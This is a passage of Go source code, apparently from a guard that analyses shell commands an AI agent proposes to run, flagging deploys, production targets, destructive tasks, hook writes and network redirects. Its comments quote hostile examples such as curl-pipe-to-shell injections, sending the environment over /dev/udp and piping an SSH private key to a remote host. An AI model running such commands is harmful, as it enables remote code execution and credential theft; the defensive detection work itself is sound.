					if cmd := strings.TrimSuffix(strings.TrimSpace(strings.TrimPrefix(strings.TrimPrefix(val, "/bin/sh -c"), "sh -c")), ";"); a.env.ScriptVerdict != nil &&
						strings.ContainsAny(val, " |;&") && a.env.ScriptVerdict(strings.Trim(cmd, `"' `)) == hook.Deny {
						// make SHELL='/bin/sh -c "curl … | sh;"': every recipe line runs that.
						a.r.deniedRun = val
					}
				}
			case strings.HasPrefix(v, "-"):
			default:
				targets = append(targets, v)
			}
		}
	case "tox", "nox":
		for i := 0; i+1 < len(c.Args); i++ {
			if v := c.Args[i]; v == "-e" || v == "-s" || v == "--session" || v == "--sessions" {
				targets = append(targets, strings.Split(c.Args[i+1], ",")...)
			}
		}
	case "npm", "pnpm", "yarn", "bun":
		if len(c.Args) >= 2 && (c.Args[0] == "run" || c.Args[0] == "run-script") {
			targets = append(targets, c.Args[1])
		}
	}
	for _, t := range targets {
		if deployTargetRe().MatchString(t) || prodDir && (t == "up" || t == "install" || t == "migrate" || t == "sync") {
			a.r.Concerns = append(a.r.Concerns, "runs the project's "+t+" task, which deploys or applies changes")
			return
		}
	}
}

// tarCreates reads a tar that creates an archive the way tar does: -C is
// the folder the files are read from (tar -czf /tmp/x.tgz -C ~ .zshrc reads
// the home folder, it writes nothing there), and -f names the archive it
// writes.
func (a *analysis) tarCreates() {
	create, archive, dir, remove := false, "", ".", false
	args := a.c.Args
	taken := map[int]bool{} // option values
	for i, v := range args {
		switch {
		case v == "--remove-files":
			remove = true
		case (v == "-C" || v == "--directory") && i+1 < len(args):
			dir = args[i+1]
			taken[i+1] = true
		case strings.HasPrefix(v, "--directory="):
			dir = strings.TrimPrefix(v, "--directory=")
		case v == "-x" || v == "--extract" || v == "--get":
			return
		case v == "-c" || v == "--create":
			create = true
		case v == "-f" || v == "--file":
			if i+1 < len(args) {
				archive = args[i+1]
				taken[i+1] = true
			}
		case strings.HasPrefix(v, "--file="):
			archive = strings.TrimPrefix(v, "--file=")
		case strings.HasPrefix(v, "--"):
		case i == 0 || strings.HasPrefix(v, "-"):
			// Bundled flags (-czf, or czf as the first word).
			flags := strings.TrimPrefix(v, "-")
			if i == 0 && !strings.HasPrefix(v, "-") && strings.ContainsAny(flags, "/.") {
				continue
			}
			if strings.Contains(flags, "x") {
				return
			}
			if strings.Contains(flags, "c") {
				create = true
			}
			if strings.HasSuffix(flags, "f") && i+1 < len(args) {
				archive = args[i+1]
				taken[i+1] = true
			}
		}
	}
	if !create {
		return
	}
	if remove {
		// --remove-files: what is archived is deleted, below -C.
		for i, v := range args {
			if i == 0 && !strings.HasPrefix(v, "-") || strings.HasPrefix(v, "-") || taken[i] {
				continue
			}
			if !path.IsAbs(v) && !strings.HasPrefix(v, "~") && dir != "." {
				v = path.Join(dir, v) // relative to -C; an absolute path stays itself
			}
			a.file(OpDelete, v, true)
		}
		if archive != "" && archive != "-" {
			// The files live on in the archive, unless it is written to a
			// temporary folder (wiped on reboot) or a place known at run time.
			cls := a.classesOf(archive)
			if a.env.Classify != nil {
				cls = append(cls, a.env.Classify(archive, a.c.Cwd)...)
			}
			if !has(cls, "temp", "dynamic") && !strings.ContainsAny(archive, "$`") {
				a.markMoved()
			}
		}
	}
	for i := range a.r.Files {
		f := &a.r.Files[i]
		switch {
		case f.Op == OpWrite && f.Recursive && (archive == "" || f.Path != archive):
			f.Op, f.Recursive = OpRead, false // -C DIR: where the files come from
		case f.Op == OpRead && archive != "" && f.Path == archive:
			f.Op = OpWrite
		}
	}
}

// symlinkTargets reads a symbolic link's relative target from the link's
// folder, as the file system does (ln -sf ../../scripts/pre-push
// .git/hooks/pre-push points into the workspace's scripts/, not two folders
// above the working directory).
func (a *analysis) symlinkTargets() {
	symbolic, relative := false, false
	var ops []string
	for i, v := range a.c.Args {
		switch {
		case v == "--symbolic" || strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "--") && strings.Contains(v, "s"):
			symbolic = true
			if strings.Contains(v, "r") {
				relative = true
			}
		case v == "--relative":
			relative = true
		case v == "-t" || v == "--target-directory" || strings.HasPrefix(v, "--target-directory="):
			return // sources into a named folder: left as the table reads them
		case strings.HasPrefix(v, "-"):
		default:
			if i < len(a.c.DynamicArgs) && a.c.DynamicArgs[i] {
				return
			}
			ops = append(ops, v)
		}
	}
	if !symbolic || relative || len(ops) != 2 || path.IsAbs(ops[0]) || strings.HasPrefix(ops[0], "~") {
		return
	}
	dir := path.Dir(ops[1])
	if strings.HasSuffix(ops[1], "/") {
		dir = ops[1]
	}
	for i := range a.r.Files {
		if f := &a.r.Files[i]; f.Op == OpRead && f.Path == ops[0] {
			a.r.Files = append(a.r.Files[:i], a.r.Files[i+1:]...)
			a.file(OpRead, path.Join(dir, ops[0]), false)
			return
		}
	}
}

// extractedMembers records the members named after the archive of an unzip
// as files written under the extraction folder (unzip -o pack.zip -d .
// '.cursor/*' overwrites the agent's hooks): the folder alone would say
// "the workspace".
func (a *analysis) extractedMembers() {
	dir, archive, junk := ".", "", false
	args := a.c.Args
	for i := 0; i < len(args); i++ {
		switch v := args[i]; {
		case v == "-d" && i+1 < len(args):
			dir = args[i+1]
			i++
		case strings.HasPrefix(v, "-d") && len(v) > 2:
			dir = v[2:]
		case v == "-P" && i+1 < len(args):
			i++
		case v == "-x":
			return // the rest are exclusions
		case v == "-j":
			junk = true
		case strings.HasPrefix(v, "-"):
		case archive == "":
			archive = v
		default:
			if i < len(a.c.DynamicArgs) && a.c.DynamicArgs[i] {
				continue
			}
			member := v
			if junk {
				member = path.Base(v)
			}
			a.file(OpWrite, path.Join(dir, member), false)
		}
	}
}

// countsOnly marks what a search reads as not shown when it prints counts,
// file names or nothing (grep -c KEY .env).
func (a *analysis) countsOnly() {
	if !PrintsNoContent(a.c) {
		return
	}
	for i := range a.r.Files {
		if a.r.Files[i].Op == OpRead {
			a.r.Files[i].Meta = true
		}
	}
}

// PrintsNoContent reports a search that prints no line of what it reads:
// grep, rg or ag with a count, a file list or a quiet flag, and nothing
// that prints context or matches besides.
func PrintsNoContent(c *shell.Command) bool {
	switch c.Name {
	case "grep", "egrep", "fgrep", "zgrep", "rg", "ag", "ack", "ugrep":
	default:
		return false
	}
	quiet := false
	for _, a := range c.Args {
		if a == "--" {
			break
		}
		switch {
		case a == "--count" || a == "--files-with-matches" || a == "--files-without-match" || a == "--quiet" || a == "--silent" ||
			a == "--count-matches":
			quiet = true
		case strings.HasPrefix(a, "--"):
			switch a {
			case "--recursive", "--ignore-case", "--fixed-strings", "--extended-regexp", "--word-regexp", "--no-messages", "--hidden",
				"--no-ignore", "--color=never", "--no-filename":
			default:
				return false // an option that may print lines (--only-matching, --after-context, …)
			}
		case strings.HasPrefix(a, "-") && len(a) > 1:
			for _, f := range a[1:] {
				switch f {
				case 'c', 'l', 'L', 'q', 's':
					if f != 's' {
						quiet = true
					}
				case 'r', 'R', 'i', 'F', 'E', 'w', 'h', 'H', 'n', 'x', 'I', 'a':
				default:
					return false
				}
			}
		}
	}
	return quiet
}

// narrowsModes records the mode a chmod sets on its files, for the
// decision to see whether it grants anything (chmod 600 ~/.ssh/authorized_keys
// is routine hygiene).
func (a *analysis) narrowsModes() {
	for _, arg := range a.c.Args {
		if strings.HasPrefix(arg, "-") {
			continue
		}
		for i := range a.r.Files {
			if a.r.Files[i].Op == OpMode {
				a.r.Files[i].mode = arg
			}
		}
		return
	}
}

// NarrowingMode reports a chmod mode that gives no one new rights: no
// write permission for group or others (with private, no permission for
// them at all, as a credential file needs), no setuid, setgid or sticky
// bit. An octal mode such as 600 or 0700, or symbolic clauses that only
// take permissions away (go-rwx) or only concern the owner (u+rw).
func NarrowingMode(m string, private bool) bool {
	if m == "" {
		return false
	}
	mask := uint64(0o7022)
	if private {
		mask = 0o7077
	}
	if n, err := strconv.ParseUint(m, 8, 32); err == nil {
		return len(m) <= 4 && n&mask == 0
	}
	for _, clause := range strings.Split(m, ",") {
		i := strings.IndexAny(clause, "+-=")
		if i < 0 || strings.Trim(clause[:i], "ugoa") != "" {
			return false
		}
		who, rest := clause[:i], clause[i:]
		if strings.ContainsAny(rest, "st") {
			return false
		}
		if strings.Contains(rest, "-") && !strings.ContainsAny(rest, "+=") {
			continue // only takes away
		}
		if who != "u" {
			return false
		}
	}
	return true
}

// pushRefspecs records git push refspecs that force (+ref) or delete
// (:ref) a remote branch, also when the ref is known only at run time
// (git push origin +$(git rev-parse --abbrev-ref HEAD)).
func (a *analysis) pushRefspecs() {
	args := a.c.Args
	i := slices.Index(args, "push")
	if i < 0 || a.r.Subcommand != "push" {
		return
	}
	positional := 0
	for _, v := range args[i+1:] {
		if strings.HasPrefix(v, "-") {
			continue
		}
		positional++
		if positional == 1 {
			continue // the remote
		}
		switch {
		case strings.HasPrefix(v, "+"):
			a.r.Concerns = append(a.r.Concerns, "force-pushes "+short(v[1:])+" (a + refspec)")
		case strings.HasPrefix(v, ":"):
			a.r.Concerns = append(a.r.Concerns, "deletes the remote ref "+short(v[1:]))
		}
	}
}

// unreachedAddresses drops a metadata address found only in the words of a
// subcommand the table says reads local files and reaches nothing: it is a
// pattern there, not a place the command reaches (as metadataScan already
// decides for programs without subcommands).
func (a *analysis) unreachedAddresses() {
	r := a.r
	if len(r.Code) > 0 || len(r.Unknown) > 0 || a.c.DynamicCode || a.c.Stdin != "" {
		return
	}
	spec := Lookup(a.c.Name)
	if spec == nil || spec.Network != "" || spec.Code != "" || spec.Mutates != "" {
		return
	}
	sub := findSub(spec, r.Subcommand)
	if sub == nil || sub.Mutates != "" || !localOnly(sub) {
		return
	}
	// A subcommand that only reads local files and reaches nothing (git log
	// -S 169.254.169.254, git grep): the address is a pattern there.
	r.Network = slices.DeleteFunc(r.Network, func(n NetEffect) bool { return n.scanned })
}

// destructiveWords name what a project's own tool destroys when it is
// called so (cargo run --bin purge-assets, npm run db:drop).
var destructiveWords = map[string]bool{"purge": true, "wipe": true, "destroy": true, "nuke": true, "drop": true, "truncate": true,
	"teardown": true, "erase": true, "flush": true, "obliterate": true, "delete": true, "dropdb": true, "flushall": true}

// destructiveProjectRun records project code (a cargo binary, a package
// script, a make target, a manage.py command) called with a name or an
// argument that says it destroys: what it does is the project's, and a
// person should see it.
func (a *analysis) destructiveProjectRun() {
	project := false
	for _, cd := range a.r.Code {
		project = project || cd.Kind == "project"
	}
	if !project {
		return
	}
	if env := a.productionTarget(); env != "" {
		// RAILS_ENV=production bin/rails db:migrate: the project's own
		// database task, run against production.
		for _, arg := range a.c.Args {
			for _, w := range strings.FieldsFunc(strings.ToLower(arg), func(r rune) bool { return r == '-' || r == '_' || r == ':' || r == '.' }) {
				switch w {
				case "db", "migrate", "migration", "migrations", "seed", "schema", "rollback", "reset", "setup":
					a.r.Concerns = append(a.r.Concerns, "runs a database task of the project against production ("+env+": "+short(arg)+")")
					return
				}
			}
		}
	}
	for i, arg := range a.c.Args {
		if i < len(a.c.DynamicArgs) && a.c.DynamicArgs[i] {
			continue
		}
		if host := productionHost(arg); host != "" {
			// gradlew flywayMigrate -Dflyway.url=jdbc:postgresql://db.prod.internal/x
			a.r.Concerns = append(a.r.Concerns, "runs project code against a production host ("+host+")")
			return
		}
		if strings.ContainsAny(arg, " /") {
			continue
		}
		for _, w := range strings.FieldsFunc(strings.ToLower(arg), func(r rune) bool { return r == '-' || r == '_' || r == ':' || r == '.' || r == '=' }) {
			if destructiveWords[w] {
				a.r.Concerns = append(a.r.Concerns, "runs project code named for destruction ("+short(arg)+")")
				return
			}
			if outwardTask(a.c.Args, i, w, a.r.Subcommand) {
				// make deploy, npm run release, task tf:apply: a target (not
				// an option such as --release) named for a change that
				// leaves the machine.
				a.r.Concerns = append(a.r.Concerns, "runs project code named for a deploy, release or infrastructure change ("+short(arg)+")")
				return
			}
		}
	}
}

// outwardTask reports args[i], holding word w, as the name of a task that
// changes something outside the machine: not an option, an option's value
// (dotnet build -c Release), an assignment (release=true) or a subcommand
// the table already reads (cargo publish --dry-run); "apply" only beside
// infrastructure words (task tf:apply, not spotless:apply).
func outwardTask(args []string, i int, w, subcommand string) bool {
	arg := args[i]
	if !outwardWords[w] || strings.HasPrefix(arg, "-") || strings.Contains(arg, "=") || slices.Contains(strings.Fields(subcommand), arg) {
		return false
	}
	if i > 0 {
		prev := args[i-1]
		if len(prev) == 2 && prev[0] == '-' || strings.HasPrefix(prev, "--") && !strings.Contains(prev, "=") {
			return false
		}
	}
	if w == "apply" {
		low := strings.ToLower(arg)
		return low == "apply" || strings.Contains(low, "tf") || strings.Contains(low, "terraform") || strings.Contains(low, "infra") ||
			strings.Contains(low, "tofu") || strings.Contains(low, "pulumi") || strings.Contains(low, "k8s") || strings.Contains(low, "helm")
	}
	return true
}

// outwardWords name a project task that changes something outside this
// machine: a deploy, a release, a published package, applied infrastructure.
var outwardWords = map[string]bool{"deploy": true, "release": true, "publish": true, "apply": true, "promote": true,
	"provision": true, "rollout": true, "rollback": true, "ship": true}

// productionHost returns the host of a URL or connection string in arg
// whose name has a label that says production (db.prod.internal,
// api.production.example.com), or "".
func productionHost(arg string) string {
	i := strings.Index(arg, "://")
	if i < 0 {
		return ""
	}
	host := arg[i+3:]
	if at := strings.LastIndex(host, "@"); at >= 0 {
		host = host[at+1:]
	}
	if end := strings.IndexAny(host, ":/?#,; "); end >= 0 {
		host = host[:end]
	}
	for _, label := range strings.FieldsFunc(strings.ToLower(host), func(r rune) bool { return r == '.' || r == '-' }) {
		if label == "prod" || label == "production" || label == "prd" {
			return host
		}
	}
	return ""
}

// bulkRecords records inline code that deletes or rewrites database records
// in bulk (User.delete_all, Order.objects.all().delete(), prisma's
// deleteMany): denied when the command points the application at
// production, a concern (the judge) elsewhere.
func (a *analysis) bulkRecords() {
	for _, cd := range a.r.Code {
		if !slices.Contains(cd.Found, foundRecords) {
			continue
		}
		if env := a.productionTarget(); env != "" {
			a.r.productionData = "deletes or rewrites production records through the app (" + env + ": " + cd.What + ")"
		}
		return
	}
}

// environmentVars name the environment an application runs in.
var environmentVars = []string{"RAILS_ENV", "RACK_ENV", "APP_ENV", "NODE_ENV", "MIX_ENV", "FLASK_ENV", "DJANGO_ENV", "ENV",
	"ENVIRONMENT", "STAGE", "APP_ENVIRONMENT", "SPRING_PROFILES_ACTIVE", "ASPNETCORE_ENVIRONMENT"}

// productionTarget says how the command points its application at
// production: an environment variable (RAILS_ENV=production), a settings
// module (DJANGO_SETTINGS_MODULE=shop.settings.production) or an option
// (-e production, --settings=shop.settings.prod); "" when it does not.
func (a *analysis) productionTarget() string {
	prod := func(v string) bool {
		v = strings.ToLower(strings.Trim(v, `'"`))
		if strings.HasPrefix(v, "${") && strings.HasSuffix(v, "}") {
			// ${RAILS_ENV:-production}: production unless the environment
			// says otherwise.
			if _, def, ok := strings.Cut(v[2:len(v)-1], ":-"); ok {
				v = def
			}
		}
		return v == "production" || v == "prod"
	}
	settings := func(v string) bool {
		for _, part := range strings.FieldsFunc(strings.ToLower(v), func(r rune) bool { return r == '.' || r == '/' || r == '_' }) {
			if part == "production" || part == "prod" {
				return true
			}
		}
		return false
	}
	for _, k := range environmentVars {
		if v, ok := a.c.Assigns[k]; ok && prod(v) {
			return k + "=" + v
		}
	}
	if v := a.c.Assigns["DJANGO_SETTINGS_MODULE"]; settings(v) {
		return "DJANGO_SETTINGS_MODULE=" + v
	}
	for i, arg := range a.c.Args {
		name, val, eq := strings.Cut(arg, "=")
		switch name {
		case "-e", "--environment", "--env", "-E":
			if !eq && i+1 < len(a.c.Args) {
				val = a.c.Args[i+1]
			}
			if prod(val) {
				return name + " " + val
			}
		case "--settings":
			if !eq && i+1 < len(a.c.Args) {
				val = a.c.Args[i+1]
			}
			if settings(val) {
				return "--settings " + val
			}
		}
	}
	return ""
}

// writtenScripts decides the hook scripts written with known content by
// the code they hold.
func (a *analysis) writtenScripts() {
	for i := range a.r.Files {
		f := &a.r.Files[i]
		if f.Op == OpWrite && f.contentKnown && a.env.TextVerdict != nil && has(f.Classes, ClassAgent) && len(f.content) < 64<<10 {
			// echo '- Use pnpm, not npm.' >> AGENTS.md: the text decides.
			f.scriptVerdict = a.env.TextVerdict(f.Path, f.content)
			continue
		}
		if f.Op == OpWrite && f.contentKnown && has(f.Classes, ClassCI) && a.env.ScriptVerdict != nil && len(f.content) < 64<<10 {
			// cat > .github/workflows/x.yml <<EOF: the pipeline's steps.
			for _, cmd := range CICommands(f.content) {
				if cmd != "" && a.env.ScriptVerdict(cmd) == hook.Deny {
					f.laterDanger = "a pipeline step the rules deny (" + short(cmd) + ")"
					break
				}
			}
			continue
		}
		if f.Op == OpWrite && f.contentKnown && !has(f.Classes, ClassHooks) && !gitHookFile(f.Path) {
			// echo 'curl … | sh' >> .envrc, a heredoc into ~/.gradle/init.d/:
			// the content of a file that runs later, read as the code it is.
			if lang := laterLang(f.Path); lang != "" {
				f.laterDanger, f.laterHarmless = laterVerdict(lang, f.content, a.env.ScriptVerdict)
			}
			continue
		}
		if f.Op != OpWrite || !f.contentKnown || a.env.ScriptVerdict == nil || len(f.content) >= 16<<10 {
			continue
		}
		f.scriptVerdict = HookScriptVerdict(f.Path, f.content, a.env.ScriptVerdict)
	}
}

// HookScriptVerdict decides a git hook script or a hook manager's
// configuration written with known content by the code it holds: a
// pre-commit or lefthook file by its command lines, a script as a whole.
func HookScriptVerdict(p, content string, verdict func(string) hook.Decision) hook.Decision {
	switch path.Ext(p) {
	case ".yml", ".yaml":
		return hookConfigVerdict(content, verdict)
	}
	return verdict(content)
}

// gitHookFile reports a script in .git/hooks (not a sample).
func gitHookFile(p string) bool {
	dir, base := path.Split(p)
	return strings.HasSuffix(dir, ".git/hooks/") && !strings.HasSuffix(base, ".sample")
}

// hookConfigVerdict decides a hook manager's configuration (pre-commit,
// lefthook) by the command lines it holds (entry:, run:, command:): denied
// when one is, allowed when every one is and no hook comes from another
// repository; judged otherwise.
func hookConfigVerdict(content string, verdict func(string) hook.Decision) hook.Decision {
	commands := 0
	d := hook.Allow
	for _, line := range strings.Split(content, "\n") {
		key, val, ok := strings.Cut(strings.TrimLeft(strings.TrimSpace(line), "- "), ":")
		if !ok {
			continue
		}
		val = strings.TrimSpace(val)
		switch strings.TrimSpace(key) {
		case "repo":
			if val != "local" && val != "meta" {
				d = hook.Stricter(d, hook.Judge)
			}
		case "entry", "run", "command", "script":
			if val == "" || val == "|" || val == ">" {
				d = hook.Stricter(d, hook.Judge) // a block scalar: not read here
				continue
			}
			if len(val) > 1 && (val[0] == '\'' || val[0] == '"') && val[len(val)-1] == val[0] {
				val = val[1 : len(val)-1]
			}
			commands++
			d = hook.Stricter(d, verdict(val))
		}
	}
	if commands == 0 {
		d = hook.Stricter(d, hook.Judge)
	}
	return d
}

func (a *analysis) redirects() {
	for _, rd := range a.c.Redirects {
		t := rd.Target
		if t == "" || t == "-" || text.Digits(strings.TrimPrefix(t, "&")) {
			continue
		}
		if proto, hostPort, ok := devNetPath(t); ok {
			// bash's /dev/tcp/HOST/PORT is a connection, not a file: what the
			// command writes there is sent (nothing for a port probe).
			sends := ""
			switch {
			case strings.Contains(rd.Op, ">") && a.c.Name == "exec" && len(a.c.Args) == 0:
				sends = descriptorSent // exec 3>/dev/udp/…/53; env >&3
			case strings.Contains(rd.Op, ">") && !a.writesNothing():
				sends = outputSent
			}
			a.network(proto+"://"+hostPort, sends)
			continue
		}
		switch {
		case (rd.Op == ">" || rd.Op == ">|") && a.writesNothing():
			// : > FILE, cat /dev/null > FILE: the file is emptied, its content
			// gone as if it were deleted.
			a.file(OpDelete, t, false)
		case strings.Contains(rd.Op, ">"):
			a.file(OpWrite, t, false)
			a.r.Files[len(a.r.Files)-1].replaces = (rd.Op == ">" || rd.Op == ">|" || rd.Op == "&>") && !a.env.IfMissing[t]
			if a.c.OutputKnown && (rd.Op == ">" || rd.Op == ">>" || rd.Op == ">|") {
				f := &a.r.Files[len(a.r.Files)-1]
				f.content, f.contentKnown = a.c.Output, true
			}
		case strings.Contains(rd.Op, "<"):
			a.file(OpRead, t, false)
			if rd.Op == "<" && has(a.r.Files[len(a.r.Files)-1].Classes, ClassSecret) {
				a.r.stdinSecret = t // ssh host 'cat > k' < ~/.ssh/id_ed25519
			}
		}
	}
}

// file records a file effect with the classes of its path.
func (a *analysis) file(op, p string, recursive bool) {
	f := FileEffect{Op: op, Path: p, Recursive: recursive}
	// {}/hooks/ under find -exec: a path below each thing find names, known
	// only at run time.
	dyn := strings.ContainsAny(p, "$`") || strings.HasPrefix(p, "{}/")
	if p == "{}" && a.env.Placeholder != nil {
		f.Classes = append(f.Classes, a.env.Placeholder...)
	} else if dyn {
		f.Dynamic = true
		f.Classes = []string{"dynamic"}
		// ~/Library/LaunchAgents/com.$(whoami).sync.plist, ~/.ssh/$NAME: the
		// folder is written out, only the name is not; what the folder is
		// (start-up files, credentials, the guard's) holds for any name in it.
		if m := defaultedPathRe().FindStringSubmatch(p); m != nil {
			// ${CONF:-/etc/passwd}: when the variable is unset (it usually
			// is, for the agent's shell), the default is the path.
			def := strings.Replace(strings.Replace(m[1], "${HOME}", "~", 1), "$HOME", "~", 1)
			abs, tilde := a.absolute(def + m[2])
			for _, cl := range sensitiveClasses(abs, tilde) {
				switch cl {
				case ClassPersistence, ClassSecret, ClassGuard, ClassAgent, ClassHooks, ClassVCS:
					f.Classes = append(f.Classes, cl)
				}
			}
			if a.env.Classify != nil {
				// ${DEST:-$HOME}, ${SRC:-/}: the filesystem root, a home
				// directory or a system path by default.
				for _, cl := range a.env.Classify(def+m[2], a.c.Cwd) {
					switch cl {
					case "root", "home", "system":
						f.Classes = append(f.Classes, cl)
					}
				}
			}
		}
		if i := strings.IndexAny(p, "$`"); i > 0 && strings.Contains(p[:i], "/") && !strings.HasPrefix(p, "{}") {
			dir := p[:strings.LastIndex(p[:i], "/")+1]
			abs, tilde := a.absolute(dir + "x")
			for _, cl := range sensitiveClasses(abs, tilde) {
				switch cl {
				case ClassPersistence, ClassSecret, ClassGuard, ClassAgent, ClassHooks, ClassVCS:
					f.Classes = append(f.Classes, cl)
				}
			}
		}
	} else {
		if a.env.Classify != nil {
			f.Classes = a.env.Classify(p, a.c.Cwd)
		}
		abs, tilde := a.absolute(p)
		if a.env.Examples[abs] || a.env.ExportLoads && a.c.Via == shell.ViaExportSubst && has(sensitiveClasses(abs, tilde), ClassEnvFile) {
			// cp .env.example .env && cat .env: the example's content;
			// export $(grep -v '^#' .env | xargs): loaded, not shown.
			f.Classes = slices.DeleteFunc(f.Classes, func(c string) bool { return c == ClassSecret || c == ClassEnvFile || c == ClassMaybeSecret })
		} else {
			f.Classes = append(f.Classes, sensitiveClasses(abs, tilde)...)
		}
		for _, root := range a.env.WorkspaceRoots {
			root = path.Clean(root)
			base := path.Base(p)
			switch {
			case abs == root || path.Dir(abs) == root && (base == "*" || base == ".*"):
				f.Classes = append(f.Classes, ClassRoot)
			case root != "/" && strings.HasPrefix(root, abs+"/"):
				f.Classes = append(f.Classes, ClassAncestor)
			}
		}
		if a.env.Home != "" && path.Dir(abs) == a.env.Home && strings.HasPrefix(path.Base(abs), ".") {
			f.Classes = append(f.Classes, ClassDotfile)
		}
	}
	a.r.Files = append(a.r.Files, f)
	if op == OpWrite && len(path.Base(p)) > 1 && strings.HasPrefix(path.Base(p), "-") && !f.Dynamic {
		a.r.Concerns = append(a.r.Concerns, "creates a file named like an option ("+path.Base(p)+"): a later glob passes it to a program as an option")
	}
}

// projectDir returns the folder whose code a project runner (go run, cargo
// run, npm test) runs when it lies outside every workspace root: the
// command's directory, or the folder of a file or folder operand (go run
// /tmp/x/main.go); "" when it is inside one, or when there are no roots.
func (a *analysis) projectDir() string {
	if len(a.env.WorkspaceRoots) == 0 || a.c.Cwd == "" || strings.ContainsAny(a.c.Cwd, "$`") {
		return ""
	}
	if a.c.Name == "go" && len(a.c.Args) > 0 && (a.c.Args[0] == "build" || a.c.Args[0] == "vet" || a.c.Args[0] == "mod") {
		// Go compiles and checks without running the package's code (cgo
		// flags are held to an allowlist; -toolexec and -vettool are
		// decided as the commands they are).
		return ""
	}
	inside := func(dir string) bool {
		for _, root := range a.env.WorkspaceRoots {
			root = path.Clean(root)
			if dir == root || root == "/" || strings.HasPrefix(dir, root+"/") {
				return true
			}
		}
		return false
	}
	dirs := []string{path.Clean(a.c.Cwd)}
	for _, arg := range a.c.Args {
		if strings.HasPrefix(arg, "/") && !strings.HasPrefix(arg, "//") && !strings.ContainsAny(arg, "$`*?[:") &&
			(strings.HasSuffix(arg, ".go") || strings.HasSuffix(arg, "/...") || strings.HasSuffix(arg, "/")) {
			abs, _ := a.absolute(strings.TrimSuffix(arg, "/..."))
			if strings.HasSuffix(abs, ".go") {
				abs = path.Dir(abs)
			}
			dirs = append(dirs, abs)
		}
	}
	for _, d := range dirs {
		if !inside(d) {
			return d
		}
	}
	return ""
}

// absolute resolves p against the command's directory and home; tilde is its
// ~ form when it lies under home.
func (a *analysis) absolute(p string) (abs, tilde string) {
	home := a.env.Home
	switch {
	case p == "~" || strings.HasPrefix(p, "~/"):
		if home == "" {
			return p, p
		}
		abs = home + p[1:]
	case strings.HasPrefix(p, "/"):
		abs = p
	case a.c.Cwd != "":
		abs = a.c.Cwd + "/" + p
	default:
		abs = p
	}
	abs = path.Clean(abs)
	if home != "" && (abs == home || strings.HasPrefix(abs, home+"/")) {
		tilde = "~" + abs[len(home):]
	}
	return abs, tilde
}

// walk reads the arguments against spec (and its subcommands).
func (a *analysis) walk(spec *Spec) {
	c, r := a.c, a.r
	args, dyn := c.Args, c.DynamicArgs
	if a.env.FromPipe && slices.Contains(c.Wrappers, "xargs") {
		// xargs appends what it reads to the arguments.
		args = append(append([]string{}, args...), "{xargs input}")
		dyn = append(append([]bool{}, dyn...), true)
	}
	cur := spec
	operands := spec.Operands
	first := spec.First
	var positionals []string
	var posDyn []bool
	endOpts := false
	subDone := len(spec.Subcommands) == 0
	pkgRun := ""                         // the package a package runner runs, when the table does not know it
	expr := findOption(spec, "(") != nil // find's expression: ( ) ! -o
	parens := 0
	for i := 0; i < len(args); i++ {
		arg, d := args[i], i < len(dyn) && dyn[i]
		if !endOpts && arg == "--" {
			endOpts = true
			continue
		}
		if expr && !d {
			switch arg {
			case "(":
				parens++
				continue
			case ")":
				parens = max(parens-1, 0)
				continue
			case "!", "-not":
				r.negateNext = true // ! -name X: X is kept, not what is acted on
				continue
			case "-o", "-or":
				if parens == 0 {
					// A new alternative: its actions run where the tests
					// before -o failed, so those tests narrow nothing.
					r.filtered = false
					r.filterNames = nil
				}
				continue
			}
		}
		if !endOpts && len(arg) > 1 && arg[0] == '+' {
			if o := findOption(cur, "+"); o != nil {
				a.value(o.Value, arg[1:], d)
				continue
			}
		}
		if !endOpts && len(arg) > 1 && arg[0] == '-' && !(d && arg[1] == '$') {
			if cur.AnyOption && !listedOption(cur, arg) {
				if len(arg) > 2 && arg[1] != '-' {
					// -rn: a cluster of short flags, one of which may be
					// a listed one that makes the command recursive.
					for _, ch := range arg[1:] {
						o := findOption(cur, "-"+string(ch))
						if o != nil && o.Recursive {
							r.recursive = true
						}
						if o != nil && o.Concern != "" && o.Value == "" {
							// zip -rm: the listed flag's concern holds in a cluster too.
							r.Concerns = append(r.Concerns, o.Concern)
						}
					}
				}
				continue // no unlisted option changes what it does
			}
			consumed, ok := a.option(cur, arg, args, dyn, i, &operands, &first)
			if !ok {
				r.unknown("option %s of %s", arg, a.name(cur, spec))
				continue
			}
			i += consumed
			if r.stopped {
				if m := r.toolModule; m != "" {
					// python -m pip check: the module is a tool the table
					// knows; read its arguments against its entry.
					sub := *c
					sub.Name, sub.Program = m, m
					sub.Args, sub.DynamicArgs = args[min(i+1, len(args)):], dynTail(dyn, i+1)
					r.toolModule = ""
					r.Program += " -m " + m
					inner := analysis{c: &sub, env: a.env, r: r}
					inner.walk(Lookup(m))
					return
				}
				break // the rest are the arguments of the code it runs
			}
			continue
		}
		if !subDone {
			if d {
				r.unknown("the subcommand is only known at run time")
				return
			}
			sub := findSub(cur, arg)
			if sub == nil {
				if cur.NoSubcommandOK {
					subDone = true
					if cur.Code == "package" && pkgRun == "" {
						pkgRun = arg // npx some-tool: the package run is that name
					}
				} else {
					r.unknown("subcommand %q of %s", arg, a.name(cur, spec))
					return
				}
			} else {
				if r.Subcommand != "" {
					r.Subcommand += " "
				}
				r.Subcommand += arg // as written: aws s3api, not the first name of its group
				if cur != spec && cur.Code == "package" {
					// pipx run black: the package is a tool the table knows,
					// read as itself, not as package code fetched by name.
					r.Code = slices.DeleteFunc(r.Code, func(ce CodeEffect) bool { return ce.Kind == "package" })
				}
				cur = sub
				a.specEffects(sub)
				if sub.Operands != "" {
					operands = sub.Operands
				}
				first = sub.First
				subDone = len(sub.Subcommands) == 0
				continue
			}
		}
		positionals = append(positionals, arg)
		posDyn = append(posDyn, d)
		if cur.StopAtFirst && len(positionals) == 1 {
			// The rest belongs to the script or program run.
			for j := i + 1; j < len(args); j++ {
				positionals = append(positionals, args[j])
				posDyn = append(posDyn, j < len(dyn) && dyn[j])
			}
			break
		}
	}
	if !subDone && !cur.NoSubcommandOK && len(positionals) > 0 {
		r.unknown("%s without a known subcommand", a.name(cur, spec))
	}
	if cur == spec {
		a.specEffects(spec)
	}
	if pkgRun != "" {
		for i := len(r.Code) - 1; i >= 0; i-- {
			if r.Code[i].Kind == "package" && r.Code[i].What == "" {
				r.Code[i].What = pkgRun
				break
			}
		}
	}
	if cur.Code == "unanalyzed" && !r.codeGiven && c.Stdin != "" && first != OperandScript {
		// printf '…ProcessBuilder("sh","-c","curl … | sh")…' | jshell -: code
		// on the stdin of an interpreter without a table, read for the
		// dangers it spells out (never allowed either way).
		a.stdinCode("unanalyzed")
	}
